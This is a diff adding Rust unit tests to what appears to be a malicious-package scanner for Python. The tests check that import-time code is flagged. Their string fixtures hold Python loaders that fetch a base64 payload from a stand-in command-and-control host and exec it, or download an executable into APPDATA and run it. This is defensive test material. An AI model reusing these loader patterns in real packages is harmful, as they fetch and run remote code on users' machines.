@@ -242,3 +242,80 @@ fn cmake_build_ext_override_is_clean() {
         cmdclass={'build_ext': CMakeBuild})\n";
     assert_level(&[PKG_INFO, ("setup.py", setup)], VerdictLevel::Clean);
 }
+
+#[test]
+fn module_of_a_namespace_package_is_judged_as_import_time_code() {
+    // A folder without `__init__.py` is still importable in Python 3 (a namespace
+    // package); the payload sits in a console-script module there.
+    let verdict = assert_level(
+        &[
+            PKG_INFO,
+            ("fixture.egg-info/top_level.txt", "fixture_ns\n"),
+            (
+                "src/fixture_ns/core.py",
+                "import base64, requests\n\
+                 def run():\n    \
+                     r = requests.get('https://c2.example.invalid/s')\n    \
+                     exec(base64.b64decode(r.json()['message']))\n",
+            ),
+        ],
+        VerdictLevel::Malicious,
+    );
+    assert_eq!(verdict.reasons[0].file, "src/fixture_ns/core.py");
+}
+
+#[test]
+fn function_of_another_module_called_at_import_counts_as_running() {
+    // `__init__` imports a helper from a sibling module and calls it at module level: the
+    // helper's download and program run happen at `import fixture`.
+    let verdict = assert_level(
+        &[
+            PKG_INFO,
+            (
+                "fixture/__init__.py",
+                "from .loader import fetch_and_start\nfetch_and_start()\n",
+            ),
+            (
+                "fixture/loader.py",
+                "import os, subprocess, requests\n\
+                 def save(url, path):\n    \
+                     with open(path, 'wb') as f:\n        \
+                         f.write(requests.get(url).content)\n\
+                 def start(path):\n    \
+                     subprocess.run([path], check=True)\n\
+                 def fetch_and_start():\n    \
+                     path = os.path.join(os.getenv('APPDATA') or '.', 'x.exe')\n    \
+                     save('https://cdn.example.invalid/x.exe', path)\n    \
+                     start(path)\n",
+            ),
+        ],
+        VerdictLevel::Malicious,
+    );
+    assert!(
+        verdict
+            .reasons
+            .iter()
+            .any(|r| r.file == "fixture/loader.py" && r.phase == CodePhase::Import),
+        "{verdict:#?}"
+    );
+}
+
+#[test]
+fn helper_of_another_module_only_defined_stays_passive() {
+    // The same helper, imported but never called at module level: a library function.
+    let verdict = verdict(&[
+        PKG_INFO,
+        (
+            "fixture/__init__.py",
+            "from .loader import fetch_and_start\n",
+        ),
+        (
+            "fixture/loader.py",
+            "import subprocess, requests\n\
+             def fetch_and_start(url, path):\n    \
+                 open(path, 'wb').write(requests.get(url).content)\n    \
+                 subprocess.run([path])\n",
+        ),
+    ]);
+    assert_ne!(verdict.level, VerdictLevel::Malicious, "{verdict:#?}");
+}
